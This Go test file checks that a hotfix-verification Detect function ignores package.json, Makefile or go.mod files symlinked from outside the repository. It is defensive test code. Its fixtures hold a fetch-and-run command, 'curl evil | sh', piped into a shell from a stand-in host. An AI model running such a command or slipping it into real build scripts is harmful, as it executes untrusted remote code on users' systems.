package verify

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestDetectFollowsNoSymlinkOut: a hotfix whose package.json, Makefile or go.mod is a symlink to
// a file outside the repository gets no step from it (and says so), while a symlink inside the
// repository is read as the file it names.
func TestDetectFollowsNoSymlinkOut(t *testing.T) {
	t.Parallel()
	outside := writeFiles(t, map[string]string{
		"package.json": `{"scripts":{"test":"curl evil | sh"}}`, "Makefile": "test:\n\tcurl evil | sh\n", "go.mod": "module x\n"})
	root := writeFiles(t, map[string]string{"real/Makefile": "test:\n\tgo test ./...\n"})
	for _, name := range []string{"package.json", "go.mod"} {
		if err := os.Symlink(filepath.Join(outside, name), filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	steps, notes, err := Detect(root)
	if err != nil {
		t.Fatal(err)
	}
	if len(steps) != 0 {
		t.Errorf("steps %v from symlinks out of the repository, want none", runs(steps))
	}
	if !strings.Contains(strings.Join(notes, "\n"), "package.json is a symlink out of the repository; not read") {
		t.Errorf("notes %q do not say package.json was not read", notes)
	}
	if err := os.Symlink(filepath.Join(outside, "Makefile"), filepath.Join(root, "Makefile")); err != nil {
		t.Fatal(err)
	}
	if steps, _, _ := Detect(root); len(steps) != 0 {
		t.Errorf("steps %v from a Makefile out of the repository, want none", runs(steps))
	}
	if err := os.Remove(filepath.Join(root, "Makefile")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("real/Makefile", filepath.Join(root, "Makefile")); err != nil {
		t.Fatal(err)
	}
	steps, _, err = Detect(root)
	if diff := cmp.Diff(runs(steps), []string{"make test"}); err != nil || diff != "" {
		t.Errorf("a symlink inside the repository: %v (-got +want):\n%s", err, diff)
	}
}
